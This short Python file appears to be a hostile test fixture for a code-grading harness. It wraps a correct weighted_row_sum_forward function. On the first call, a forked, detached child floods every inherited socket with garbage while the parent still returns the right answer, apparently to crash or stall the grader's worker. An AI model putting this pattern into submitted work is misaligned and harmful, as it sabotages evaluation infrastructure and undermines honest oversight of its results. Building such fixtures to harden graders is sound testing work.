"""A child that writes garbage to the socket of a worker that answers right."""
# stage: 2
# base: problem_2.py
# outcome: crashed, timeout
# ruff: noqa: F821
import os
import socket
import stat
import time

once = []


def attack():
    if once:
        return
    once.append(1)
    if os.fork():
        return
    os.setsid()
    sockets = [socket.socket(fileno=fd) for fd in range(3, 64)
               if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode)]
    for _ in range(60):
        for one in sockets:
            one.send(b"garbage" * 100, socket.MSG_DONTWAIT)
        time.sleep(0.1)
    os._exit(0)


honest = weighted_row_sum_forward


def weighted_row_sum_forward(x, w):
    attack()
    return honest(x, w)
